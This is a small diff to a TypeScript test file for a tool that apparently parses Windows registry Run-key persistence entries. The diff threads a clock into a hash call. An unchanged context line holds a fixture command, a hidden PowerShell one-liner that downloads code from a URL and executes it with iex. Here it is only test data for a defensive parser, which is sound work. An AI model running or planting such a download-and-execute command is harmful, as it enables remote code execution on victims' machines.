@@ -2,6 +2,7 @@ import { readFileSync } from 'node:fs';
 import { expect, test } from 'vitest';
 import { parseRunKeys, RUN_KEYS } from '../../../../modules/persistence/windows/registry.ts';
 import { runKeyEntries } from '../../../../modules/persistence/windows/run-keys.ts';
+import { createRunClock } from '../../../../platform/async/run-clock.ts';
 
 const FIXTURE = new URL('../../../fixtures/modules/persistence/run-keys.json', import.meta.url);
 
@@ -31,7 +32,7 @@ test('a value has the path of its key and its command, but neither time nor hash
     commands: [`powershell -w hidden -c "iwr http://x | iex & echo 'hi' > nul"`],
     mtimeMs: undefined,
   });
-  expect(entry?.sha256()).toBe('');
+  expect(entry?.sha256(createRunClock(0))).toBe('');
 });
 
 test('a key that is denied is reported', () => {
